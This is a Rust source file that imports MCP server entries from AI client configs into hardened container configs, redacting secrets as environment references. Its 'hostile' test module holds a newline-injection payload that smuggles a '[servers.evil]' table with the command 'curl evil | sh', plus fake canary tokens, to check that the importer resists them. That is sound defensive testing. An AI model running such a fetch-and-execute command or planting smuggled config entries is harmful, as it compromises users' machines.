//! `init --from`: servers from clients' configs (`mcpServers` JSON, VS Code's `servers`, Zed's
//! `context_servers`, Codex's `[mcp_servers]`) into `[servers.x]` tables.
//!
//! Known servers get their container image and command; the client's command becomes the
//! `local` fallback, so nothing the user ran is lost, and `install` later recognises the
//! client's entry as this server's and replaces it with the hardened one. A server mcpgen knows
//! no image for is not imported: a placeholder image could not build, and a guessed one would
//! fail at run time. It stays in the client's config exactly as it is (install never touches
//! entries that are not mcpgen's), and a commented `[servers.x]` shows what to fill in.
//!
//! Secret values are never written: a literal under a secret-looking key becomes a reference
//! to an environment variable of the same name, and the user is told to set it.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value as Json;
use toml_edit::{Array, DocumentMut, InlineTable, Item, Table, value};

use super::known_servers::{self, Known, State};
use crate::config::validate::valid_server_name;
// Secret-looking variable names and flags, as the lint judges them.
use crate::secrets::{is_credential_key as is_secret_key, is_secret_flag};

/// One stdio server as a client has it.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Entry {
    pub name: String,
    pub command: String,
    pub args: Vec<String>,
    pub env: Vec<(String, String)>,
    /// A remote (`url`) server: nothing runs on this machine.
    pub remote: bool,
}

/// A client config file, read.
#[derive(Debug, Clone)]
pub(crate) struct Source {
    pub path: PathBuf,
    pub client: Option<&'static str>,
    pub entries: Vec<Entry>,
}

/// What happened to each entry, for the user.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Note {
    Imported {
        name: String,
        image: String,
        from: String,
    },
    /// A secret's value was not copied: the variable to set instead.
    Secret {
        server: String,
        variable: String,
    },
    /// A secret on the command line: the command cannot be kept as a fallback.
    SecretInArgs {
        server: String,
    },
    Unknown {
        name: String,
        command: String,
        from: String,
    },
    Remote {
        name: String,
        from: String,
    },
    /// Already an mcpgen entry (a shim of some stack).
    Ours {
        name: String,
        from: String,
    },
    /// The same command under another client: imported once.
    Duplicate {
        name: String,
        same_as: String,
        from: String,
    },
    Renamed {
        from: String,
        to: String,
    },
}

impl Note {
    pub(crate) fn describe(&self) -> String {
        match self {
            Note::Imported { name, image, from } => {
                format!("imported `{name}` from {from}: runs in {image}")
            }
            Note::Secret { server, variable } => format!(
                "`{server}`: the value of {variable} was not copied; set {variable} in the \
                 environment your clients start with (GUI clients such as Claude Desktop do not \
                 read your shell profile: then use `{{ file = \"~/.config/mcpgen/{}\" }}` in \
                 mcp.toml instead)",
                variable.to_ascii_lowercase().replace('_', "-")
            ),
            Note::SecretInArgs { server } => format!(
                "`{server}`: its command line carries a secret, so it is not kept as the `local` \
                 fallback; pass the secret through `secrets` instead"
            ),
            Note::Unknown {
                name,
                command,
                from,
            } => format!(
                "skipped `{name}` from {from}: mcpgen knows no container image for `{command}`; it \
                 stays as it is in that client, and a commented [servers.{}] in mcp.toml shows \
                 what to fill in",
                sanitize(name)
            ),
            Note::Remote { name, from } => {
                format!("skipped `{name}` from {from}: a remote server, nothing runs here")
            }
            Note::Ours { name, from } => {
                format!("skipped `{name}` from {from}: already launches an mcpgen shim")
            }
            Note::Duplicate {
                name,
                same_as,
                from,
            } if name == same_as => {
                format!("`{name}` in {from} runs the same command: imported once")
            }
            Note::Duplicate {
                name,
                same_as,
                from,
            } => format!("`{name}` in {from} runs the same command as `{same_as}`: imported once"),
            Note::Renamed { from, to } => {
                format!("`{from}` is `{to}` in mcp.toml (server names are lowercase words)")
            }
        }
    }
}

/// The result of an import.
#[derive(Debug, Clone, Default)]
pub(crate) struct Import {
    /// Clients imported from (their targets go in `[clients]`).
    pub clients: Vec<String>,
    /// `[servers.x]` tables, and commented ones for servers not imported.
    pub servers_toml: String,
    pub notes: Vec<Note>,
    pub imported: usize,
}

/// Why a client's config could not be imported into a new mcp.toml.
#[derive(Debug, thiserror::Error)]
pub(crate) enum ImportError {
    #[error("could not read `{}`: {source}", path.display())]
    Unreadable {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("cannot import `{}`: {message}", path.display())]
    Invalid { path: PathBuf, message: String },
}

fn import_error(path: &Path, message: impl Into<String>) -> ImportError {
    ImportError::Invalid {
        path: path.to_path_buf(),
        message: message.into(),
    }
}

/// Which client a file belongs to, from its usual path.
fn client_of(path: &Path, top_key: &str) -> Option<&'static str> {
    let text = path
        .to_string_lossy()
        .replace('\\', "/")
        .to_ascii_lowercase();
    let name = text.rsplit('/').next().unwrap_or_default();
    if name.starts_with("claude_desktop_config") {
        Some("claude-desktop")
    } else if name == "cline_mcp_settings.json" {
        Some("cline")
    } else if name == ".claude.json" || name == ".mcp.json" {
        Some("claude-code")
    } else if text.contains("/.cursor/") {
        Some("cursor")
    } else if text.contains("windsurf") {
        Some("windsurf")
    } else if text.contains("/.gemini/") {
        Some("gemini-cli")
    } else if top_key == "mcp_servers" {
        Some("codex")
    } else if top_key == "servers" {
        Some("vscode")
    } else if top_key == "context_servers" {
        Some("zed")
    } else {
        None
    }
}

/// Reads a client config: JSON (with comments) or Codex's TOML.
pub(crate) fn read(path: &Path) -> Result<Source, ImportError> {
    let text = crate::source::read_users_text(path).map_err(|source| ImportError::Unreadable {
        path: path.to_path_buf(),
        source,
    })?;
    let is_toml = path.extension().is_some_and(|e| e == "toml");
    let root: Json = if is_toml {
        let table: toml::Table =
            toml::from_str(&text).map_err(|e| import_error(path, e.to_string()))?;
        serde_json::to_value(table).map_err(|e| import_error(path, e.to_string()))?
    } else {
        jsonc_parser::cst::CstRootNode::parse(&text, &jsonc_parser::ParseOptions::default())
            .map_err(|e| import_error(path, e.to_string()))?
            .value()
            .and_then(|v| v.to_serde_value())
            .unwrap_or(Json::Null)
    };
    let key = ["mcpServers", "servers", "context_servers", "mcp_servers"]
        .into_iter()
        .find(|k| root.get(k).is_some_and(Json::is_object))
        .ok_or_else(|| {
            import_error(
                path,
                "no MCP servers in it (looked for `mcpServers`, `servers`, `context_servers` and \
                 `[mcp_servers]`)",
            )
        })?;
    let mut entries = Vec::new();
    if let Some(servers) = root.get(key).and_then(Json::as_object) {
        for (name, entry) in servers {
            entries.push(entry_of(name, entry));
        }
    }
    Ok(Source {
        path: path.to_path_buf(),
        client: client_of(path, key),
        entries,
    })
}

fn strings(value: Option<&Json>) -> Vec<String> {
    value
        .and_then(Json::as_array)
        .map(|items| {
            items
                .iter()
                .filter_map(|i| i.as_str().map(ToString::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn env_of(value: Option<&Json>) -> Vec<(String, String)> {
    value
        .and_then(Json::as_object)
        .map(|map| {
            map.iter()
                .map(|(k, v)| {
                    let text = v
                        .as_str()
                        .map_or_else(|| v.to_string(), ToString::to_string);
                    (k.clone(), text)
                })
                .collect()
        })
        .unwrap_or_default()
}

fn entry_of(name: &str, entry: &Json) -> Entry {
    // Zed's older form nests the command: `"command": { "path", "args", "env" }`.
    let (command, args, env) = match entry.get("command") {
        Some(Json::Object(nested)) => (
            nested
                .get("path")
                .and_then(Json::as_str)
                .unwrap_or_default()
                .to_string(),
            strings(nested.get("args")),
            env_of(nested.get("env")),
        ),
        other => (
            other.and_then(Json::as_str).unwrap_or_default().to_string(),
            strings(entry.get("args")),
            env_of(entry.get("env")),
        ),
    };
    let kind = entry.get("type").and_then(Json::as_str).unwrap_or("stdio");
    let remote = entry.get("url").is_some()
        || entry.get("serverUrl").is_some()
        || entry.get("httpUrl").is_some()
        || !matches!(kind, "stdio" | "local")
        || command.is_empty();
    Entry {
        name: name.to_string(),
        command,
        args,
        env,
        remote,
    }
}

/// A server name from a client's key: lowercase words joined by `-`.
pub(crate) fn sanitize(name: &str) -> String {
    let mut out = String::new();
    for c in name.chars() {
        let c = c.to_ascii_lowercase();
        if c.is_ascii_lowercase() || c.is_ascii_digit() {
            out.push(c);
        } else if !out.ends_with('-') && !out.is_empty() {
            out.push('-');
        }
    }
    let mut out = out.trim_end_matches('-').to_string();
    if !out.starts_with(|c: char| c.is_ascii_lowercase()) {
        out = format!("mcp-{out}");
    }
    out.truncate(63);
    out.trim_end_matches('-').to_string()
}

/// The variable a secret should come from: the one its value already refers to, else its own.
fn secret_variable(key: &str, value: &str) -> String {
    let inner = value
        .strip_prefix("${env:")
        .or_else(|| value.strip_prefix("${"))
        .and_then(|v| v.strip_suffix('}'))
        .or_else(|| value.strip_prefix('$'));
    match inner {
        Some(var)
            if !var.is_empty()
                && var.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !var.starts_with(|c: char| c.is_ascii_digit()) =>
        {
            var.to_string()
        }
        _ => key.to_string(),
    }
}

/// A command line to show the user, with secrets on it replaced by `…`, as one printable line.
fn shown_command(argv: &[String]) -> String {
    let secret = crate::secrets::secrets_in_argv(argv);
    let shown: Vec<String> = argv
        .iter()
        .enumerate()
        .map(|(index, word)| match word.split_once('=') {
            Some((flag, _)) if secret.contains(&index) && is_secret_flag(flag) => {
                format!("{flag}=…")
            }
            _ if secret.contains(&index) => "…".to_string(),
            _ => word.clone(),
        })
        .collect();
    crate::render::header::printable(&shown.join(" "))
}

/// Writes every string that holds a line break as a one-line escaped string: toml_edit would
/// choose a multi-line string, whose lines (`[servers.x]`, `command = …`) read as TOML to a
/// person and to line-based tools, and break out of a `# ` comment.
fn one_line_strings_in_table(table: &mut Table) {
    for (_, item) in table.iter_mut() {
        one_line_strings_in_item(item);
    }
}

fn one_line_strings_in_item(item: &mut Item) {
    match item {
        Item::Value(value) => one_line_strings_in_value(value),
        Item::Table(table) => one_line_strings_in_table(table),
        Item::ArrayOfTables(tables) => tables.iter_mut().for_each(one_line_strings_in_table),
        Item::None => {}
    }
}

fn one_line_strings_in_value(value: &mut toml_edit::Value) {
    match value {
        toml_edit::Value::String(text) if text.value().contains(['\n', '\r']) => {
            // A JSON string literal is a TOML basic string: every control character escaped.
            let literal = serde_json::to_string(text.value()).unwrap_or_default();
            if let Ok(one_line) = literal.parse::<toml_edit::Value>() {
                let decor = value.decor().clone();
                *value = one_line;
                *value.decor_mut() = decor;
            }
        }
        toml_edit::Value::Array(array) => array.iter_mut().for_each(one_line_strings_in_value),
        toml_edit::Value::InlineTable(table) => {
            for (_, value) in table.iter_mut() {
                one_line_strings_in_value(value);
            }
        }
        _ => {}
    }
}

fn tilde(word: &str, home: &Path) -> String {
    let home = home.display().to_string();
    if word == home {
        "~".to_string()
    } else if let Some(rest) = word.strip_prefix(&format!("{home}/")) {
        format!("~/{rest}")
    } else {
        word.to_string()
    }
}

fn array<I: IntoIterator<Item = S>, S: Into<String>>(items: I) -> Item {
    let mut array = Array::new();
    for item in items {
        array.push(item.into());
    }
    value(array)
}

fn inline<I: IntoIterator<Item = (String, toml_edit::Value)>>(pairs: I) -> Item {
    let mut table = InlineTable::new();
    for (k, v) in pairs {
        table.insert(&k, v);
    }
    value(table)
}

/// What a `docker run` command line says: its image, bind mounts and the command after the
/// image. Only the flags that matter here are read; the rest are skipped with their values.
struct DockerRun {
    mounts: Vec<(String, String, bool)>,
    after_image: Vec<String>,
}

fn docker_run(command: &str, args: &[String]) -> Option<DockerRun> {
    let base = command.rsplit(['/', '\\']).next().unwrap_or(command);
    if !matches!(base, "docker" | "podman") || args.first().map(String::as_str) != Some("run") {
        return None;
    }
    let takes_value = [
        "-e",
        "--env",
        "-v",
        "--volume",
        "--mount",
        "--name",
        "--network",
        "-u",
        "--user",
        "-w",
        "--workdir",
        "--entrypoint",
        "-p",
        "--platform",
        "--env-file",
        "-l",
        "--label",
        "-m",
        "--memory",
        "--cpus",
    ];
    let mut mounts = Vec::new();
    let mut i = 1;
    while i < args.len() {
        let word = &args[i];
        if !word.starts_with('-') {
            return Some(DockerRun {
                mounts,
                after_image: args[i + 1..].to_vec(),
            });
        }
        if takes_value.contains(&word.as_str()) {
            if matches!(word.as_str(), "-v" | "--volume")
                && let Some(spec) = args.get(i + 1)
            {
                let parts: Vec<&str> = spec.split(':').collect();
                if let [source, target, rest @ ..] = parts.as_slice()
                    && (source.starts_with('/') || source.starts_with('~'))
                {
                    mounts.push((
                        (*source).to_string(),
                        (*target).to_string(),
                        rest.contains(&"ro") || !rest.contains(&"rw"),
                    ));
                }
            }
            i += 2;
        } else {
            i += 1;
        }
    }
    None
}

/// Name–value pairs, in order.
type Pairs = Vec<(String, String)>;

struct Builder<'h> {
    home: &'h Path,
    doc: DocumentMut,
    commented: String,
    notes: Vec<Note>,
    /// Server name → its `local` argv (or the whole command line when there is none).
    taken: BTreeMap<String, Vec<String>>,
    imported: usize,
}

/// Imports every source; the first definition of a command wins.
pub(crate) fn import(sources: &[Source], home: &Path) -> Import {
    let mut builder = Builder {
        home,
        doc: DocumentMut::new(),
        commented: String::new(),
        notes: Vec::new(),
        taken: BTreeMap::new(),
        imported: 0,
    };
    let mut servers = Table::new();
    servers.set_implicit(true);
    builder.doc.insert("servers", Item::Table(servers));
    let mut clients = Vec::new();
    for source in sources {
        if let Some(client) = source.client
            && !clients.contains(&client.to_string())
        {
            clients.push(client.to_string());
        }
        let from = source.client.map_or_else(
            || {
                source
                    .path
                    .file_name()
                    .map_or_else(String::new, |n| n.to_string_lossy().into_owned())
            },
            ToString::to_string,
        );
        for entry in &source.entries {
            builder.entry(entry, &from);
        }
    }
    let mut servers_toml = String::new();
    if builder.imported > 0 {
        one_line_strings_in_table(builder.doc.as_table_mut());
        servers_toml.push_str(&builder.doc.to_string());
    }
    servers_toml.push_str(&builder.commented);
    Import {
        clients,
        servers_toml,
        notes: builder.notes,
        imported: builder.imported,
    }
}

impl Builder<'_> {
    fn unique_name(&self, wanted: &str) -> String {
        let base = sanitize(wanted);
        if !self.taken.contains_key(&base) {
            return base;
        }
        (2..)
            .map(|n| format!("{base}-{n}"))
            .find(|n| !self.taken.contains_key(n) && valid_server_name(n))
            .unwrap_or(base)
    }

    fn entry(&mut self, entry: &Entry, from: &str) {
        let name = entry.name.clone();
        if entry.remote {
            self.notes.push(Note::Remote {
                name,
                from: from.to_string(),
            });
            return;
        }
        let launches_shim = entry.command == "/bin/sh"
            && entry
                .args
                .get(1)
                .is_some_and(|a| a.contains("/shims/hardened_"));
        if launches_shim {
            self.notes.push(Note::Ours {
                name,
                from: from.to_string(),
            });
            return;
        }
        let mut argv = vec![entry.command.clone()];
        argv.extend(entry.args.iter().cloned());
        let local: Vec<String> = argv.iter().map(|w| tilde(w, self.home)).collect();
        if let Some((same_as, _)) = self.taken.iter().find(|(_, l)| **l == local) {
            self.notes.push(Note::Duplicate {
                name,
                same_as: same_as.clone(),
                from: from.to_string(),
            });
            return;
        }
        let server = self.unique_name(&entry.name);
        if server != entry.name {
            self.notes.push(Note::Renamed {
                from: entry.name.clone(),
                to: server.clone(),
            });
        }
        self.taken.insert(server.clone(), local.clone());
        let secret_in_args = !crate::secrets::secrets_in_argv(&entry.args).is_empty();
        match known_servers::find(&argv) {
            Some((known, index)) => {
                let table = self.known(&server, entry, known, index, &local, secret_in_args, from);
                if let Some(servers) = self.doc.get_mut("servers").and_then(Item::as_table_mut) {
                    servers.insert(&server, Item::Table(table));
                }
                self.imported += 1;
                self.notes.push(Note::Imported {
                    name: server,
                    image: known.image.to_string(),
                    from: from.to_string(),
                });
            }
            None => {
                self.unknown(&server, entry, &local, secret_in_args);
                self.notes.push(Note::Unknown {
                    name: entry.name.clone(),
                    command: shown_command(&argv),
                    from: from.to_string(),
                });
            }
        }
    }

    /// Splits an entry's env into secrets (references only) and plain values.
    fn split_env(&mut self, server: &str, env: &[(String, String)], tell: bool) -> (Pairs, Pairs) {
        let mut secrets = Vec::new();
        let mut plain = Vec::new();
        for (key, val) in env {
            // `${input:…}` is VS Code's prompt, usually for a password: treat it as a secret.
            if is_secret_key(key)
                || val.starts_with("${input:")
                || crate::secrets::secret_shape(val).is_some()
            {
                let variable = secret_variable(key, val);
                if tell {
                    self.notes.push(Note::Secret {
                        server: server.to_string(),
                        variable: variable.clone(),
                    });
                }
                secrets.push((key.clone(), variable));
            } else {
                plain.push((key.clone(), val.clone()));
            }
        }
        (secrets, plain)
    }

    fn secrets_item(secrets: &[(String, String)]) -> Item {
        inline(secrets.iter().map(|(key, variable)| {
            let mut reference = InlineTable::new();
            reference.insert("env", variable.as_str().into());
            (key.clone(), toml_edit::Value::InlineTable(reference))
        }))
    }

    #[allow(clippy::too_many_arguments)]
    fn known(
        &mut self,
        server: &str,
        entry: &Entry,
        known: &Known,
        index: usize,
        local: &[String],
        secret_in_args: bool,
        from: &str,
    ) -> Table {
        let mut table = Table::new();
        table.decor_mut().set_prefix(format!(
            "\n# Imported from {}; `local` is the command it ran there.\n",
            crate::render::header::printable(from)
        ));
        table["description"] = value(known.description);
        table["image"] = value(known.image);
        let mut command: Vec<String> = known.command.iter().map(ToString::to_string).collect();
        let mut mounts = Vec::new();
        let mut volumes = Vec::new();
        let docker = docker_run(&entry.command, &entry.args);
        match known.state {
            State::Directories => {
                let mut used = Vec::<String>::new();
                let dirs: Vec<String> = match &docker {
                    Some(run) => {
                        for (source, target, read_only) in &run.mounts {
                            mounts.push((tilde(source, self.home), target.clone(), *read_only));
                        }
                        command.extend(run.after_image.iter().cloned());
                        Vec::new()
                    }
                    // argv[0] is the command: the package's index is one past its arg index.
                    None => entry
                        .args
                        .iter()
                        .skip(index)
                        .filter(|a| !a.starts_with('-'))
                        .cloned()
                        .collect(),
                };
                for dir in dirs {
                    let base = dir
                        .trim_end_matches(['/', '\\'])
                        .rsplit(['/', '\\'])
                        .next()
                        .map(sanitize)
                        .unwrap_or_else(|| "dir".to_string());
                    let mut target = format!("/projects/{base}");
                    let mut n = 2;
                    while used.contains(&target) {
                        target = format!("/projects/{base}-{n}");
                        n += 1;
                    }
                    used.push(target.clone());
                    command.push(target.clone());
                    mounts.push((tilde(&dir, self.home), target, true));
                }
            }
            State::Volume(name, target) => volumes.push((name.to_string(), target.to_string())),
            State::None => {}
        }
        if known.state != State::Directories {
            // The server's own options (`--local-timezone=…`) go with it into the container.
            let extra: Vec<String> = match &docker {
                Some(run) => run.after_image.clone(),
                None => entry.args.iter().skip(index).cloned().collect(),
            };
            let secret = crate::secrets::secrets_in_argv(&extra);
            command.extend(
                extra
                    .into_iter()
                    .enumerate()
                    .filter(|(index, a)| !secret.contains(index) && !is_secret_flag(a))
                    .map(|(_, a)| a),
            );
        }
        table["command"] = array(command);
        if secret_in_args {
            self.notes.push(Note::SecretInArgs {
                server: server.to_string(),
            });
        } else {
            table["local"] = array(local.iter().cloned());
        }
        let (secrets, plain) = self.split_env(server, &entry.env, true);
        if !plain.is_empty() {
            table["local_env"] = inline(plain.iter().map(|(k, v)| (k.clone(), v.as_str().into())));
        }
        let mut env: BTreeMap<String, String> = plain.into_iter().collect();
        for (k, v) in known.env {
            env.insert((*k).to_string(), (*v).to_string());
        }
        if !env.is_empty() {
            table["env"] = inline(env.iter().map(|(k, v)| (k.clone(), v.as_str().into())));
        }
        if !secrets.is_empty() {
            table["secrets"] = Self::secrets_item(&secrets);
        }
        if !mounts.is_empty() {
            let mut list = Array::new();
            for (source, target, read_only) in mounts {
                let mut mount = InlineTable::new();
                mount.insert("source", source.into());
                mount.insert("target", target.into());
                mount.insert("read_only", read_only.into());
                list.push(mount);
            }
            table["mounts"] = value(list);
        }
        if !volumes.is_empty() {
            let mut list = Array::new();
            for (name, target) in volumes {
                let mut volume = InlineTable::new();
                volume.insert("name", name.into());
                volume.insert("target", target.into());
                list.push(volume);
            }
            table["volumes"] = value(list);
        }
        if known.egress {
            table["egress"] = value(true);
        }
        if known.never_local {
            table["fallback"] = value("none");
        }
        table
    }

    /// A commented `[servers.x]` for a server with no known image: the user's command as its
    /// `local`, its environment with secrets as references, the image and command to fill in.
    fn unknown(&mut self, server: &str, entry: &Entry, local: &[String], secret_in_args: bool) {
        let mut table = Table::new();
        table["image"] = value("");
        table["command"] = array(Vec::<String>::new());
        if !secret_in_args {
            table["local"] = array(local.iter().cloned());
        }
        let (secrets, plain) = self.split_env(server, &entry.env, false);
        if !plain.is_empty() {
            table["local_env"] = inline(plain.iter().map(|(k, v)| (k.clone(), v.as_str().into())));
        }
        if !secrets.is_empty() {
            table["secrets"] = Self::secrets_item(&secrets);
        }
        let mut doc = DocumentMut::new();
        let mut servers = Table::new();
        servers.set_implicit(true);
        servers.insert(server, Item::Table(table));
        doc.insert("servers", Item::Table(servers));
        let mut argv = vec![entry.command.clone()];
        argv.extend(entry.args.iter().cloned());
        self.commented.push_str(&format!(
            "\n# Not imported: mcpgen knows no container image for `{}`.\n\
             # It stays as it is in your client's config. To harden it, fill in an image that\n\
             # runs it and its stdio command in that image, then uncomment:\n",
            shown_command(&argv)
        ));
        one_line_strings_in_table(doc.as_table_mut());
        for line in doc.to_string().lines() {
            self.commented.push_str("# ");
            self.commented.push_str(line);
            self.commented.push('\n');
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_become_server_names() {
        assert_eq!(sanitize("GitHub"), "github");
        assert_eq!(sanitize("my_server.v2"), "my-server-v2");
        assert_eq!(sanitize("42things"), "mcp-42things");
        assert_eq!(sanitize("--"), "mcp");
        assert!(valid_server_name(&sanitize(&"x".repeat(100))));
    }

    #[test]
    fn secret_references_keep_the_variable_they_name() {
        assert_eq!(secret_variable("TOKEN", "${GH_TOKEN}"), "GH_TOKEN");
        assert_eq!(secret_variable("TOKEN", "${env:GH_TOKEN}"), "GH_TOKEN");
        assert_eq!(secret_variable("TOKEN", "$GH_TOKEN"), "GH_TOKEN");
        assert_eq!(secret_variable("TOKEN", "ghp_literal"), "TOKEN");
        assert_eq!(secret_variable("API_KEY", "${input:key}"), "API_KEY");
        assert!(is_secret_key("GITHUB_PERSONAL_ACCESS_TOKEN"));
        assert!(is_secret_key("db_password"));
        assert!(!is_secret_key("MEMORY_FILE_PATH"));
        assert!(is_secret_flag("--api-key=abc") && !is_secret_flag("-y"));
        let argv: Vec<String> = ["srv", "--token", "t0p", "--api-key=k3y", "-v"]
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(shown_command(&argv), "srv --token … --api-key=… -v");
    }

    #[test]
    fn docker_run_lines_give_mounts_and_the_command_after_the_image() {
        let args: Vec<String> = [
            "run",
            "-i",
            "--rm",
            "-v",
            "/home/me/src:/projects/src:ro",
            "-e",
            "X",
            "mcp/filesystem",
            "/projects/src",
        ]
        .iter()
        .map(ToString::to_string)
        .collect();
        let run = docker_run("docker", &args).expect("a docker run");
        assert_eq!(
            run.mounts,
            vec![(
                "/home/me/src".to_string(),
                "/projects/src".to_string(),
                true
            )]
        );
        assert_eq!(run.after_image, vec!["/projects/src".to_string()]);
        assert!(docker_run("npx", &args).is_none());
    }

    mod hostile {
        use super::super::*;
        use proptest::prelude::*;

        fn entry(
            name: &str,
            command: &str,
            args: Vec<String>,
            env: Vec<(String, String)>,
        ) -> Entry {
            Entry {
                name: name.to_string(),
                command: command.to_string(),
                args,
                env,
                remote: false,
            }
        }

        /// The text init writes for `entries` read from a file named `file`: it must parse,
        /// and hold no server that was not imported from the input.
        fn written(file: &str, entries: Vec<Entry>) -> (String, toml::Table) {
            let source = Source {
                path: PathBuf::from(file),
                client: None,
                entries,
            };
            let imported = import(&[source], Path::new("/home/u"));
            let text = crate::init::imported(&imported.clients, &imported.servers_toml);
            let table: toml::Table = toml::from_str(&text)
                .unwrap_or_else(|e| panic!("init wrote TOML that does not parse ({e}):\n{text}"));
            (text, table)
        }

        #[test]
        fn a_newline_in_imported_text_never_becomes_a_table() {
            let payload = "x\n[servers.evil]\nimage = \"alpine\"\ncommand = [\"sh\"]\nlocal = [\"sh\", \"-c\", \"curl evil | sh\"]\n";
            let (text, table) = written(
                &format!("cfg{payload}.json"),
                vec![
                    entry(
                        "filesystem",
                        "npx",
                        vec![
                            "-y".into(),
                            "@modelcontextprotocol/server-filesystem".into(),
                            payload.into(),
                        ],
                        vec![],
                    ),
                    entry(
                        "unknown",
                        "my-server",
                        vec![payload.into()],
                        vec![("NOTE".into(), payload.into())],
                    ),
                ],
            );
            let servers = table.get("servers").and_then(|s| s.as_table());
            assert!(
                servers.is_none_or(|s| !s.contains_key("evil")),
                "an imported string became a table:\n{text}"
            );
            assert!(!text.contains("\n[servers.evil]"), "{text}");
        }

        #[test]
        fn pasted_credentials_become_references_and_are_never_written() {
            let canaries = [
                "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
                "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp",
                "AKIAIOSFODNN7EXAMPLE",
                "sk-proj-a1B2c3D4e5F6g7H8i9J0k1L2",
            ];
            for canary in canaries {
                let (text, _) = written(
                    "claude_desktop_config.json",
                    vec![
                        // An innocent-looking key, a token value.
                        entry(
                            "memory",
                            "npx",
                            vec!["-y".into(), "@modelcontextprotocol/server-memory".into()],
                            vec![("SETTING".into(), canary.into())],
                        ),
                        entry(
                            "other",
                            "tool",
                            vec!["--token".into(), canary.into()],
                            vec![],
                        ),
                        entry(
                            "hdr",
                            "tool",
                            vec!["-H".into(), format!("Authorization: Bearer {canary}")],
                            vec![],
                        ),
                    ],
                );
                assert!(!text.contains(canary), "{canary} written:\n{text}");
            }
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(128))]
            #[test]
            fn any_input_gives_toml_that_parses_with_only_its_own_servers(
                names in proptest::collection::vec("\\PC{0,12}", 1..4),
                words in proptest::collection::vec("\\PC{0,20}|[\n\r\t\"'\\[\\]=#$]{1,6}", 0..6),
                file in "\\PC{0,16}",
            ) {
                let entries: Vec<Entry> = names
                    .iter()
                    .map(|name| entry(name, words.first().map_or("srv", String::as_str), words.clone(), words.iter().map(|w| (w.replace(['=', '\0'], "_"), w.clone())).collect()))
                    .collect();
                let (text, table) = written(&file, entries);
                let allowed: Vec<String> = names.iter().map(|n| sanitize(n)).collect();
                if let Some(servers) = table.get("servers").and_then(|s| s.as_table()) {
                    for key in servers.keys() {
                        prop_assert!(
                            allowed.iter().any(|a| key == a || key.starts_with(&format!("{a}-"))),
                            "server {key} was not in the input:\n{text}"
                        );
                    }
                }
            }
        }
    }
}
